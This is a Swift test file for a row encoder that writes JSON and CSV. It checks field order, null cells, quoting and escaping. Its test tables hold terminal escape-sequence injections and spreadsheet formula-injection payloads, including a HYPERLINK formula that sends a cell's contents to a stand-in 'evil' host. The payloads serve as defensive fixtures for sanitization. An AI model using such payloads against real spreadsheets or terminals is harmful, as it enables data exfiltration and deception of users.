// SPDX-License-Identifier: Apache-2.0

import Foundation
import KithCore
import TestSupport
import Testing

@testable import KithOperations

@Suite struct RowEncoderTests {
  private struct Row: OperationRow {
    var text: String?
    var flag: Bool?
    var number: Int?
    var digits: String?

    static let fieldNames = ["text", "flag", "number", "a \"b\""]

    func write(to fields: inout RowEncoder) {
      fields.text(text)
      fields.flag(flag)
      fields.number(number)
      fields.number(digits: digits)
    }
  }

  private func lines(_ rows: [Row], _ style: RowEncoder.Style) -> [String] {
    var encoder = RowEncoder(Row.fieldNames, style: style)
    return rows.map { row in
      encoder.encode(row)
      return String(decoding: encoder.bytes, as: UTF8.self)
    }
  }

  @Test func aJSONRowHasEveryFieldInOrderAndNothingOfThePreviousRow() {
    let rows = [
      Row(text: "a longer text", flag: false, number: -7, digits: "0.250"), Row(text: "b", flag: true),
    ]
    #expect(
      lines(rows, .json) == [
        #"{"text":"a longer text","flag":false,"number":-7,"a \"b\"":0.250}"#,
        #"{"text":"b","flag":true,"number":null,"a \"b\"":null}"#,
      ])
  }

  private struct Repeated: OperationRow {
    var did: DID?
    var text: String?
    var quoted: String?

    static let fieldNames = ["did", "again", "text", "textAgain", "quoted", "verbatim", "end"]

    func write(to fields: inout RowEncoder) {
      fields.text(did)
      fields.textAgain()
      fields.text(text)
      fields.textAgain()
      fields.text(quoted)
      fields.verbatim(quoted)
      fields.flag(true)
    }
  }

  /// What is kept of the rows before does not change a row.
  @Test(arguments: [nil, [4, 1, 3], [0, 6]] as [[Int]?])
  func aRowIsWrittenAsTheFirstOne(selecting selected: [Int]?) {
    let did = Accounts.did(1)
    let (text, quoted) = ("known at last, and long enough not to be small", "=1 \"quoted\",\u{1b}[31m")
    let rows = [
      Repeated(did: did, text: text, quoted: quoted), Repeated(did: did, text: text, quoted: quoted),
      Repeated(did: did, text: text, quoted: quoted), Repeated(), Repeated(text: text),
      Repeated(did: Accounts.did(2), text: "other"), Repeated(text: "other", quoted: quoted),
      Repeated(did: did, text: text, quoted: "other"), Repeated(did: did, text: text, quoted: "other"),
    ]
    for style in [RowEncoder.Style.json, .csv(raw: false), .csv(raw: true, keepsText: true)] {
      func encoded(_ row: Repeated, by encoder: inout RowEncoder) -> String {
        encoder.encode(row)
        return String(decoding: encoder.bytes, as: UTF8.self)
      }
      var encoder = RowEncoder(Repeated.fieldNames, style: style, selecting: selected)
      let together = rows.map { encoded($0, by: &encoder) }
      let alone = rows.map { row in
        var encoder = RowEncoder(Repeated.fieldNames, style: style, selecting: selected)
        return encoded(row, by: &encoder)
      }
      #expect(together == alone)
    }
    let fields = RowEncoder.fields(of: rows[0]).map(\.value)
    #expect(fields[0] == fields[1] && fields[2] == fields[3] && fields[2] == .string(text))
  }

  private struct Nested: OperationRow {
    let did: DID?
    let value: OutputValue

    static let fieldNames = ["did", "value"]

    func write(to fields: inout RowEncoder) {
      fields.text(did)
      fields.value(value)
    }
  }

  /// What JSON says, whatever the order of the fields.
  private func members(_ json: some Sequence<UInt8>) throws -> NSDictionary {
    try #require(try JSONSerialization.jsonObject(with: Data(json)) as? NSDictionary)
  }

  @Test func anyEncoderWritesTheSameFieldsAsTheRowEncoder() throws {
    for row in [Row(text: "é\n", flag: false, number: -7, digits: "0.25"), Row(digits: "12")] {
      let line = try #require(lines([row], .json).first)
      #expect(try members(JSONEncoder().encode(row)) == members(line.utf8))
    }
    let value: OutputValue = .object([
      OutputField("a", .array([.null, .integer(1), .number("2.5"), .bool(true)])),
      OutputField("b", .string("x")),
    ])
    for row in [
      Nested(did: DID("did:plc:z72i7hdynmk6r22z27h6tvur"), value: value), Nested(did: nil, value: .null),
    ] {
      var encoder = RowEncoder(Nested.fieldNames, style: .json)
      encoder.encode(row)
      let line = Array(encoder.bytes)
      #expect(try members(JSONEncoder().encode(row)) == members(line))
    }
  }

  @Test func aCSVRowHasAnEmptyCellForNull() {
    #expect(
      lines([Row(text: "x", flag: true, number: 1, digits: "2"), Row()], .csv(raw: false)) == [
        "x,true,1,2", ",,,",
      ])
  }

  /// For any output, because cells of a file may end up on a terminal.
  @Test(arguments: [
    ("\u{1B}[2J", "\u{FFFD}[2J"), ("\u{1B}]0;owned\u{7}", "\u{FFFD}]0;owned\u{FFFD}"),
    ("two\nlines", "two\u{FFFD}lines"), ("a\rb", "a\u{FFFD}b"), ("a\r\nb", "a\u{FFFD}\u{FFFD}b"),
    ("\u{85}\u{2028}\u{2029}", "\u{FFFD}\u{FFFD}\u{FFFD}"), ("\u{202E}gpj.exe", "\u{FFFD}gpj.exe"),
  ])
  func csvIsCleaned(cell: String, cleaned: String) {
    for raw in [true, false] { #expect(lines([Row(text: cell)], .csv(raw: raw)) == [cleaned + ",,,"]) }
  }

  @Test(arguments: [
    ("=1+1", "'=1+1"), ("+49", "'+49"), ("-x", "'-x"), ("@bob.test", "'@bob.test"), ("＝1", "'＝1"),
    (#"=HYPERLINK("https://evil/?"&A2,"x")"#, #""'=HYPERLINK(""https://evil/?""&A2,""x"")""#),
    ("\t=1", "\u{FFFD}=1"), ("'=1", "''=1"), ("a=1", "a=1"), ("bob.test", "bob.test"),
    ("a;=1+1", "a;'=1+1"), (";=1+1", ";'=1+1"), ("a|-1", "a|'-1"), ("a; @b", "a;' @b"), (" =1", "' =1"),
    ("\u{A0}\u{3000}+1", "'\u{A0}\u{3000}+1"), ("a;'=1", "a;''=1"), (";;=1;=2", ";;'=1;'=2"),
    ("a;b=1", "a;b=1"),
    ("=;=", "'=;'="), ("| she/her", "| she/her"), ("=\u{301}1", "'=\u{301}1"),
  ])
  func formulaCellsAreEscaped(cell: String, defused: String) {
    #expect(lines([Row(text: cell)], .csv(raw: false)) == [defused + ",,,"])
    #expect(SpreadsheetFormula.undefused(SpreadsheetFormula.defused(cell)) == cell)
    let clean = TerminalText.clean(cell)
    let raw = clean.contains(",") ? "\"\(clean.replacing("\"", with: "\"\""))\"" : clean
    #expect(lines([Row(text: cell)], .csv(raw: true)) == [raw + ",,,"])
  }

  /// Quotes and line breaks as well, in texts that are kept for import.
  @Test func defusingIsReversible() {
    let parts = ["=", "'", "\"", ";", "|", "\t", "\n", "\r", " ", "a", "@", "\u{A0}", "\\", "\u{301}"]
    for first in parts {
      for second in parts {
        for third in parts {
          for fourth in parts {
            let cell = first + second + third + fourth
            let defused = SpreadsheetFormula.defused(cell)
            #expect(
              SpreadsheetFormula.undefused(defused).unicodeScalars.elementsEqual(cell.unicodeScalars),
              "\(cell)")
          }
        }
      }
    }
  }

  @Test func numbersStayNumbersInCSV() {
    #expect(lines([Row(number: -7, digits: "-0.250")], .csv(raw: false)) == [",,-7,-0.250"])
  }

  @Test(arguments: [
    ("plain", "plain"), ("", ""), ("a,b", "\"a,b\""), ("say \"hi\"", "\"say \"\"hi\"\"\""),
    ("a;b", "a;b"), ("朱迪,", "\"朱迪,\""),
  ])
  func csvQuotesOnlyWhatNeedsIt(cell: String, quoted: String) {
    #expect(lines([Row(text: cell)], .csv(raw: false)) == [quoted + ",,,"])
  }
}
